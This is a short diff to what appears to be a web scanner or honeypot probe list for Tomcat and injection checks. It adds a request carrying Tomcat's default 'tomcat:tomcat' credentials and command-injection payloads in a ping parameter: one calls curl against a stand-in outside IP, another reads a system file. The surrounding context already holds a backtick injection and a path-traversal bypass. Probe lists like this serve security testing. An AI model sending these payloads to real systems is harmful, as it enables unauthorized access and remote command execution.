@@ -81,7 +81,7 @@ _JSON, _RAW = "application/json", "application/octet-stream"
 
 TOMCAT = (
     _probe("/manager/html", status="401 Unauthorized"),
-    _probe("/host-manager/html", status="403 Forbidden"),
+    _probe("/host-manager/html", status="403 Forbidden", headers=("Authorization: Basic dG9tY2F0OnRvbWNhdA==",)),
     _probe("/..;/manager/html"),
     _probe("/manager/text/list", status="401 Unauthorized"),
     _probe("/manager/status", status="401 Unauthorized"),
@@ -230,6 +230,8 @@ INJECTION = (
         content_type="text/xml",
     ),
     _probe("/ping?host=127.0.0.1`id`"),
+    _probe("/ping?host=$(curl${IFS}198.51.100.66)"),
+    _probe("/ping?host=$(/bin/cat%20/etc/hostname)"),
 )
 
 
